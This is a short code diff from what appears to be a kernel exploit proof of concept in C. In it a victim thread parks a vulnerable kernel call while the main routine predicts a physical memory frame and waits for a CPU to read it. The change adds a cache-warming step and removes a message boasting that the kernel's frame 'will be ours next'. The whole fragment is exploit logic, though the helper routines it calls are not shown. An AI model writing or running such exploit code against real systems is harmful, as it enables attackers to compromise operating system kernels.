@@ -14,6 +14,7 @@ static void victim(void *unused)
 {
 	(void)unused;
 	attack_await(&stage, STAGE_CALL, AWAIT_SPIN);
+	attack_warm(frame.synonym);
 	attack_check("vuln_call_parked", bw_vuln_call_parked(frame.synonym));
 	attack_tell(&stage, STAGE_CALLED);
 }
@@ -29,7 +30,6 @@ int main(void)
 	attack_thread(CPU_OF_VICTIM, victim, NULL);
 
 	attack_frame_predict(&leak, &frame);
-	attack_say("frame 0x%lx is the kernel's, and will be ours next", frame.pfn);
 	attack_tell(&stage, STAGE_CALL);
 	attack_await_parked(1);
 	attack_say("CPU %d has read it at 0x%lx, and stays in the kernel", CPU_OF_VICTIM,
